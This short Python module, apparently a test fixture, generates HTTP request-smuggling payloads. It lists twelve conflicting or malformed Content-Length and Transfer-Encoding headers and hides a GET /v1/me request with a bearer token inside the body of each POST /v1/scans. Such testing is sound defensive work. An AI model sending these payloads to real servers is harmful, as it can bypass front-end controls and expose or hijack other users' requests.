"""Requests hidden in the body of another one, in all ways in which two programs may differ on where a body ends."""

LENGTHS = {
    "a length and chunks": "Content-Length: 5\r\nTransfer-Encoding: chunked",
    "chunks and a length": "Transfer-Encoding: chunked\r\nContent-Length: 5",
    "chunks, then nothing": "Transfer-Encoding: chunked, identity",
    "nearly chunks": "Transfer-Encoding: xchunked",
    "a blank before the colon": "Transfer-Encoding : chunked",
    "a tab for a blank": "Transfer-Encoding:\x0bchunked",
    "two lengths": "Content-Length: 0\r\nContent-Length: 5",
    "two lengths in one": "Content-Length: 0, 5",
    "a plus": "Content-Length: +5",
    "a hexadecimal": "Content-Length: 0x5",
    "a minus": "Content-Length: -1",
    "an underscore": "Content_Length: 5\r\nContent-Length: 0",
}


def smuggled(token: str) -> dict[str, bytes]:
    """By what is wrong with them: each asks for /v1/scans, and in its body somebody asks for /v1/me."""
    hidden = f"GET /v1/me HTTP/1.1\r\nHost: edge\r\nAuthorization: Bearer {token}\r\n\r\n"
    begin = f"POST /v1/scans HTTP/1.1\r\nHost: edge\r\nAuthorization: Bearer {token}\r\n"
    return {kind: f"{begin}{length}\r\n\r\n0\r\n\r\n{hidden}".encode() for kind, length in LENGTHS.items()}
